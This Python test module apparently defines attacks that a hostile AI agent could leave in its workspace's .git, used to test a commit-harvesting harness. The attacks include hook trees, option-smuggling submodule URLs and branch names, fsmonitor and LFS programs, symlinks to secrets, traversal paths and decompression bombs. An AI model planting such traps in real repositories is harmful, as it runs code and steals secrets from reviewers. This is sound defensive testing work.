"""What a hostile agent can leave in its workspace's own `.git` for somebody who reads commits there. Registered with the other attacks."""

from __future__ import annotations

import hashlib
import os
import shutil
import struct
import zlib
from pathlib import Path

from support.git_server import git
from support.hostile_trees import Trap, attack

EMPTY_TREE = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"
BRANCH_FILE = ".git/refs/heads/treadle/work-12345678"
PAYLOAD = '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n'


def commit(workspace: Path, message: str = "agent", *options: str) -> str:
    """An honest commit of all that is there, whatever the workspace's configuration names."""
    git(workspace, "add", "--all", "--force")
    who = ("-c", "user.name=Mallory", "-c", "user.email=mallory@example.org")
    git(workspace, *who, "commit", "-q", "--no-verify", "--allow-empty", "-F", "-", *options, stdin=message.encode())
    return git(workspace, "rev-parse", "HEAD")


def plant(workspace: Path, kind: str, content: bytes, *, name: str = "", compressed: bytes | None = None) -> str:
    """A loose object, also one that git would not write, also under the name of another."""
    raw = f"{kind} {len(content)}\0".encode() + content
    name = name or hashlib.sha1(raw, usedforsecurity=False).hexdigest()
    target = workspace / ".git/objects" / name[:2] / name[2:]
    target.parent.mkdir(exist_ok=True)
    target.unlink(missing_ok=True)
    target.write_bytes(zlib.compress(raw) if compressed is None else compressed)
    return name


def entry(mode: str, name: bytes, identity: str) -> bytes:
    return f"{mode} ".encode() + name + b"\0" + bytes.fromhex(identity)


def claim(workspace: Path, tree: str, *, parent: str = "", message: bytes = b"claimed\n", extra: bytes = b"") -> str:
    """Let the branch say that this tree was committed."""
    parent = parent or git(workspace, "rev-parse", "HEAD")
    who = b"Mallory <m@example.org> 1767323046 +0000"
    lines = b"tree %s\nparent %s\nauthor %s\ncommitter %s\n%s\n" % (tree.encode(), parent.encode(), who, who, extra)
    made = plant(workspace, "commit", lines + message)
    point(workspace, made)
    return made


def point(workspace: Path, commit: str) -> None:
    (workspace / ".git/HEAD").write_text(f"{commit}\n")


def a_blob(workspace: Path, content: bytes = b"x") -> str:
    return plant(workspace, "blob", content)


@attack("COMMITS_NOT_KEPT")
def a_history_of_its_own(workspace: Path, trap: Trap) -> None:
    del trap
    git(workspace, "checkout", "-q", "--orphan", "other")
    commit(workspace, "built on nothing")


@attack("COMMITS_NOT_KEPT")
def the_start_is_rewritten(workspace: Path, trap: Trap) -> None:
    del trap
    commit(workspace, "amended", "--amend")


@attack("COMMITS_NOT_KEPT")
def grafts_shallow_and_replacements(workspace: Path, trap: Trap) -> None:
    """The workspace's git believes that an orphan is built on the start, and that the start is empty."""
    del trap
    start = git(workspace, "rev-parse", "HEAD")
    git(workspace, "checkout", "-q", "--orphan", "other")
    orphan = commit(workspace, "orphan")
    (workspace / ".git/info/grafts").write_text(f"{orphan} {start}\n")
    (workspace / ".git/shallow").write_text(f"{start}\n")
    replacement = plant(workspace, "commit", f"tree {EMPTY_TREE}\nauthor a <a> 1 +0000\ncommitter a <a> 1 +0000\n\nx".encode())
    (workspace / ".git/refs/replace").mkdir(parents=True)
    (workspace / ".git/refs/replace" / start).write_text(f"{replacement}\n")


@attack("COMMITS_NOT_KEPT")
def commits_in_an_alternate(workspace: Path, trap: Trap) -> None:
    (workspace / "elsewhere").write_text("x")
    commit(workspace)
    away = trap.folder / f"objects-{workspace.name}"
    shutil.copytree(workspace / ".git/objects", away)
    for loose in (workspace / ".git/objects").glob("??"):
        shutil.rmtree(loose)
    (workspace / ".git/objects/info").mkdir(exist_ok=True)
    (workspace / ".git/objects/info/alternates").write_text(f"{away}\n")
    (workspace / "elsewhere").unlink()


@attack("COMMITS_NOT_KEPT")
def objects_are_a_link_to_elsewhere(workspace: Path, trap: Trap) -> None:
    commit(workspace)
    away = trap.folder / f"moved-{workspace.name}"
    shutil.move(workspace / ".git/objects", away)
    (workspace / ".git/objects").symlink_to(away)


@attack("COMMITS_NOT_KEPT")
def an_object_is_a_link_to_a_secret(workspace: Path, trap: Trap) -> None:
    name = hashlib.sha1(b"blob %d\0" % len(trap.secret.read_bytes()) + trap.secret.read_bytes(), usedforsecurity=False).hexdigest()
    folder = workspace / ".git/objects" / name[:2]
    folder.mkdir(exist_ok=True)
    (folder / name[2:]).symlink_to(trap.secret)
    claim(workspace, plant(workspace, "tree", entry("100644", b"stolen", name)))


@attack("COMMITS_NOT_KEPT")
def objects_and_refs_that_block(workspace: Path, trap: Trap) -> None:
    del trap
    made = commit(workspace)
    loose = workspace / ".git/objects" / made[:2] / made[2:]
    loose.unlink()
    os.mkfifo(loose)
    os.mkfifo(workspace / ".git/packed-refs")
    (workspace / ".git/index").unlink()
    os.mkfifo(workspace / ".git/index")


@attack("COMMITS_NOT_KEPT")
def head_is_a_fifo(workspace: Path, trap: Trap) -> None:
    del trap
    commit(workspace)
    (workspace / ".git/HEAD").unlink()
    os.mkfifo(workspace / ".git/HEAD")


@attack("COMMITS_NOT_KEPT")
def head_leads_out_of_the_repository(workspace: Path, trap: Trap) -> None:
    commit(workspace)
    (trap.folder / "ref").write_text(f"{'1' * 40}\n")
    (workspace / ".git/HEAD").write_text(f"ref: refs/heads/../../../../{trap.folder.name}/ref\n")
    (workspace / ".git/refs/out").symlink_to(trap.folder)


@attack("COMMITS_NOT_KEPT")
def refs_are_huge_and_sparse(workspace: Path, trap: Trap) -> None:
    del trap
    commit(workspace)
    shutil.rmtree(workspace / ".git/refs/heads")
    with (workspace / ".git/packed-refs").open("wb") as file:
        file.truncate(10 * 1024**3)


@attack("COMMITS_NOT_KEPT")
def objects_of_another_session_are_named(workspace: Path, trap: Trap) -> None:
    """In a tree, and as a tree: the mirror has both."""
    tree = plant(workspace, "tree", entry("40000", b"all", trap.foreign_tree) + entry("100644", b"stolen", trap.foreign_blob))
    claim(workspace, tree)


@attack("COMMITS_NOT_KEPT")
def an_object_under_the_name_of_another(workspace: Path, trap: Trap) -> None:
    plant(workspace, "blob", b"not what it is named", name=trap.foreign_blob)
    claim(workspace, plant(workspace, "tree", entry("100644", b"stolen", trap.foreign_blob)))


@attack("COMMITS_NOT_KEPT")
def the_start_s_tree_is_forged(workspace: Path, trap: Trap) -> None:
    """What is compared with is what the server knows, whatever lies under its name."""
    del trap
    tree = git(workspace, "rev-parse", "HEAD^{tree}")
    claim(workspace, plant(workspace, "tree", entry("100644", b"x", a_blob(workspace))))
    plant(workspace, "tree", entry("100644", b"forged", a_blob(workspace, b"y")), name=tree)


@attack("COMMITS_NOT_KEPT")
def trees_with_names_that_lead_out(workspace: Path, trap: Trap) -> None:
    del trap
    blob = a_blob(workspace)
    inner = plant(workspace, "tree", entry("100755", b"post-checkout", blob))
    for name in (b"..", b".", b"../x", b"a/b", b".git", b".GIT", b"git~1", b".g\xe2\x80\x8cit", b""):
        claim(workspace, plant(workspace, "tree", entry("40000", name, inner)), message=name)


@attack("COMMITS_NOT_KEPT")
def a_tree_with_the_hooks_of_git(workspace: Path, trap: Trap) -> None:
    hook = a_blob(workspace, trap.program.read_bytes())
    hooks = plant(workspace, "tree", entry("40000", b"hooks", plant(workspace, "tree", entry("100755", b"post-checkout", hook))))
    claim(workspace, plant(workspace, "tree", entry("40000", b".git", hooks)))


@attack("COMMITS_NOT_KEPT")
def a_tree_with_a_name_twice(workspace: Path, trap: Trap) -> None:
    del trap
    blob = a_blob(workspace)
    claim(workspace, plant(workspace, "tree", entry("100644", b"a", blob) + entry("40000", b"a", plant(workspace, "tree", b""))))


@attack("COMMITS_NOT_KEPT")
def a_tree_of_modes_that_are_none(workspace: Path, trap: Trap) -> None:
    del trap
    blob = a_blob(workspace)
    for mode in ("160000", "100666", "104755", "777", "0", "-1", "140000"):
        claim(workspace, plant(workspace, "tree", entry(mode, b"odd", blob)), message=mode.encode())


@attack("COMMITS_NOT_KEPT")
def a_tree_that_is_its_own_thousandfold(workspace: Path, trap: Trap) -> None:
    """Ten to the thirtieth files, in thirty objects."""
    del trap
    content = entry("100644", b"file", a_blob(workspace))
    for _ in range(30):
        tree = plant(workspace, "tree", content)
        content = b"".join(entry("40000", b"%d" % number, tree) for number in range(10))
    claim(workspace, plant(workspace, "tree", content))


@attack("COMMITS_NOT_KEPT")
def a_tree_as_deep_as_it_goes(workspace: Path, trap: Trap) -> None:
    del trap
    content = entry("100644", b"file", a_blob(workspace))
    for _ in range(2000):
        content = entry("40000", b"d", plant(workspace, "tree", content))
    claim(workspace, plant(workspace, "tree", content))


@attack("COMMITS_NOT_KEPT")
def gitmodules_with_an_option_in_the_middle_of_a_history(workspace: Path, trap: Trap) -> None:
    """The last tree is harmless; who clones recursively at the commit before it runs what it says."""
    del trap
    (workspace / ".gitmodules").write_text(PAYLOAD)
    commit(workspace, "plant")
    (workspace / ".gitmodules").unlink()
    commit(workspace, "hide")


@attack("COMMITS_NOT_KEPT")
def gitmodules_under_another_name_and_as_a_link(workspace: Path, trap: Trap) -> None:
    blob = a_blob(workspace, PAYLOAD.encode())
    link = a_blob(workspace, str(trap.secret).encode())
    for mode, name, identity in (("100644", b"GITMOD~1", blob), ("100644", b".gitModules ", blob), ("120000", b".gitmodules", link)):
        claim(workspace, plant(workspace, "tree", entry(mode, name, identity)))


@attack("COMMITS_NOT_KEPT")
def gitmodules_that_the_base_has_as_an_ordinary_file(workspace: Path, trap: Trap) -> None:
    """Its bytes are not asked for where they may stay; here they may not."""
    del trap
    (workspace / "docs/example.txt").rename(workspace / ".gitmodules")
    commit(workspace, "rename")
    (workspace / ".gitmodules").rename(workspace / "docs/example.txt")


@attack("COMMITS_NOT_KEPT", "GIT_DIRECTORY")
def a_submodule_of_the_agent_s_own(workspace: Path, trap: Trap) -> None:
    (workspace / ".gitmodules").write_text(f'[submodule "sub"]\n\tpath = sub\n\turl = {trap.thief}\n')
    git(workspace, "init", "-q", "sub")
    (workspace / "sub/.git/config").write_text(f"[core]\n\tfsmonitor = {trap.program}\n\thooksPath = {trap.folder}\n")
    sub = git(workspace, "rev-parse", "HEAD")
    git(workspace, "update-index", "--add", "--cacheinfo", f"160000,{sub},sub")
    git(workspace, "-c", "user.name=m", "-c", "user.email=m@m", "commit", "-qm", "a gitlink")
    (workspace / ".git/modules/sub").mkdir(parents=True, exist_ok=True)
    (workspace / ".git/modules/sub/config").write_text(f"[core]\n\tworktree = {trap.secret.parent}\n")


@attack("COMMITS_NOT_KEPT")
def a_compressed_bomb(workspace: Path, trap: Trap) -> None:
    """Zeros, 64 MiB of them in 64 KiB: that say so, and that say that they are few."""
    del trap
    for name, size in (("b" * 40, 64 * 1024**2), ("c" * 40, 100)):
        bomb = zlib.compress(f"tree {size}\0".encode() + bytes(64 * 1024**2), 1)
        claim(workspace, plant(workspace, "tree", b"", name=name, compressed=bomb))


@attack("COMMITS_NOT_KEPT")
def objects_that_say_another_size(workspace: Path, trap: Trap) -> None:
    del trap
    names = []
    for number, size in enumerate((b"5", b"100", b"-1", b"99999999999999999999", b"1e3", b"")):
        raw = b"blob " + size + b"\0" + b"x" * 10
        names.append(plant(workspace, "blob", b"", name=f"{number}" * 40, compressed=zlib.compress(raw)))
    names.append(plant(workspace, "blob", b"", name="a" * 40, compressed=b"\x78\x9c" + os.urandom(50)))
    for name in names:
        claim(workspace, plant(workspace, "tree", entry("100644", b"x", name)))


def a_pack(workspace: Path, objects: dict[str, bytes]) -> None:
    """A pack with an index that names `objects`, each an entry of the pack as it is."""
    names = sorted(objects)
    pack = b"PACK" + struct.pack(">II", 2, len(names))
    offsets = {}
    for name in names:
        offsets[name] = len(pack)
        pack += objects[name]
    folder = workspace / ".git/objects/pack"
    fanout = b"".join(struct.pack(">I", sum(1 for name in names if int(name[:2], 16) <= byte)) for byte in range(256))
    index = b"\xfftOc" + struct.pack(">I", 2) + fanout + b"".join(map(bytes.fromhex, names)) + bytes(4 * len(names))
    index += b"".join(struct.pack(">I", offsets[name]) for name in names) + bytes(40)
    (folder / "pack-aaaa.pack").write_bytes(pack + bytes(20))
    (folder / "pack-aaaa.idx").write_bytes(index)


@attack("COMMITS_NOT_KEPT")
def deltas_in_a_circle_and_to_themselves(workspace: Path, trap: Trap) -> None:
    del trap
    one, two, self_made = "1" * 40, "2" * 40, "3" * 40
    delta = zlib.compress(b"\x00\x00")

    def over(name: str) -> bytes:
        return bytes([0x70 | 2]) + bytes.fromhex(name) + delta

    a_pack(workspace, {one: over(two), two: over(one), self_made: bytes([0x60 | 2, 0x00]) + delta})
    for name in (one, self_made):
        claim(workspace, plant(workspace, "tree", entry("100644", b"x", name)))


@attack("COMMITS_NOT_KEPT")
def a_delta_that_grows(workspace: Path, trap: Trap) -> None:
    """A few bytes that say: copy it, and again, to four gibibytes; and one that copies from outside."""
    del trap
    base = bytes([0x30 | 10]) + zlib.compress(b"0123456789")
    huge = b"\x0a" + b"\xff\xff\xff\xff\x0f" + b"\x90\x0a" * 1000
    outside = b"\x0a" + b"\x20" + b"\xff\xff\xff\xff\xff\xff\xff\xff"
    blobs = {"4" * 40: base}
    for name, delta in (("5" * 40, huge), ("6" * 40, outside)):
        size = len(delta)
        header = bytes([0x70 | (size & 15) | (0x80 if size > 15 else 0)])
        size >>= 4
        while size:
            header += bytes([(size & 0x7F) | (0x80 if size > 0x7F else 0)])
            size >>= 7
        blobs[name] = header + bytes.fromhex("4" * 40) + zlib.compress(delta)
    a_pack(workspace, blobs)
    for name in ("5" * 40, "6" * 40):
        claim(workspace, plant(workspace, "tree", entry("100644", b"x", name)))


@attack("COMMITS_NOT_KEPT")
def indexes_that_lead_astray(workspace: Path, trap: Trap) -> None:
    """Counts that never end, offsets behind the end, and files that are sparse, cut off, or no packs."""
    del trap
    commit(workspace)
    folder = workspace / ".git/objects/pack"
    for number, fanout in enumerate((b"\xff" * 1024, bytes(1020) + b"\xff" * 4, os.urandom(1024))):
        (folder / f"pack-{number}.idx").write_bytes(b"\xfftOc\0\0\0\x02" + fanout + b"\x11" * 4096)
        (folder / f"pack-{number}.pack").write_bytes(b"PACK\0\0\0\x02\0\0\0\x01" + os.urandom(64))
    with (folder / "pack-8.idx").open("wb") as file:
        file.truncate(10 * 1024**3)
    (folder / "multi-pack-index").write_bytes(b"MIDX" + os.urandom(500))
    (workspace / ".git/objects/info").mkdir(exist_ok=True)
    (workspace / ".git/objects/info/commit-graph").write_bytes(b"CGPH" + os.urandom(500))
    claim(workspace, plant(workspace, "tree", entry("100644", b"x", "1" * 40)))


@attack("COMMITS_NOT_KEPT")
def more_packs_than_anybody_has(workspace: Path, trap: Trap) -> None:
    del trap
    commit(workspace)
    for number in range(1500):
        (workspace / f".git/objects/pack/pack-{number}.idx").touch()


@attack()
def commits_with_lines_that_are_none(workspace: Path, trap: Trap) -> None:
    """A second author, a signature, words for terminals, and words that look like a header."""
    del trap
    tree = git(workspace, "rev-parse", "HEAD^{tree}")
    words = b"\x1b]0;owned\x07\x1b[2J\0hidden\ncommitter root <root@localhost> 1 +0000\n" + b"y" * 100_000
    claim(workspace, tree, message=words, extra=b"author Root <root@localhost> 1 +0000\n")
    claim(workspace, tree, extra=b"gpgsig -----BEGIN\n x\n")


@attack()
def a_worktree_and_a_common_directory_elsewhere(workspace: Path, trap: Trap) -> None:
    commit(workspace)
    (workspace / ".git/commondir").write_text(f"{trap.secret.parent}\n")
    (workspace / ".git/gitdir").write_text(f"{trap.secret.parent}\n")
    (workspace / ".git/worktrees/x").mkdir(parents=True)
    (workspace / ".git/worktrees/x/gitdir").write_text(f"{trap.secret.parent}\n")
    (workspace / ".git/config.worktree").write_text(f"[core]\n\tfsmonitor = {trap.program}\n\tworktree = {trap.secret.parent}\n")


@attack()
def a_branch_named_as_an_option(workspace: Path, trap: Trap) -> None:
    name = f"--upload-pack={trap.program}"
    made = commit(workspace)
    for folder in (workspace / ".git/refs/heads", workspace / ".git/refs/tags"):
        target = folder / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(f"{made}\n")
    (workspace / ".git/HEAD").write_text(f"ref: refs/heads/{name}\n")


@attack()
def lfs_with_an_endpoint_and_programs(workspace: Path, trap: Trap) -> None:
    with (workspace / ".git/config").open("a") as config:
        config.write(f'[lfs]\n\turl = {trap.thief}\n[lfs "customtransfer.x"]\n\tpath = {trap.program}\n')
        config.write(f'[filter "lfs"]\n\tclean = {trap.program}\n\tsmudge = {trap.program}\n\tprocess = {trap.program}\n')
    (workspace / ".lfsconfig").write_text(f"[lfs]\n\turl = {trap.thief}\n\tstandalonetransferagent = x\n")
    (workspace / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 99999999999\n"
    (workspace / "large.bin").write_text(pointer)
    (workspace / ".git/lfs/objects").mkdir(parents=True)
